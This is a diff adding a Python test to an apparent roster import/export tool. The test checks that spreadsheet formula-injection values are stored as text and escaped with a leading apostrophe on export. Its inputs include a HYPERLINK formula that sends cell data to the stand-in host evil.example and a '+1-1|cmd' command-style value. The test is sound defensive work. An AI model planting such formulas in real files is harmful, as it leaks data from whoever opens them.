@@ -126,6 +126,19 @@ def test_codes_for_an_entry_without_identifier(
     assert [match.entry_id for match in find_matches(row["code"], row["code"])] == [entry.id]
 
 
+def test_a_formula_from_a_roster_is_taken_and_written_as_text(
+    contract_b: ActiveContract, write_roster: WriteRoster
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Elm")'
+    row = LOCATION | {"name": formula, "address_1": "+1-1|cmd", "city": "@SUM(1)"}
+    roster("import", contract_b.slug, write_roster([row]))
+    with contract_context(contract_b):
+        assert list_entries().get().name == formula
+    (written,) = codes_in(roster("issue-codes", contract_b.slug, "1234567893")[0])
+    assert written["name"] == f"'{formula}"
+    assert (written["address_1"], written["city"]) == ("'+1-1|cmd", "'@SUM(1)")
+
+
 def test_missing_codes_go_to_a_new_file_that_only_its_owner_reads(
     contract_b: ActiveContract, write_roster: WriteRoster, tmp_path: Path
 ) -> None:
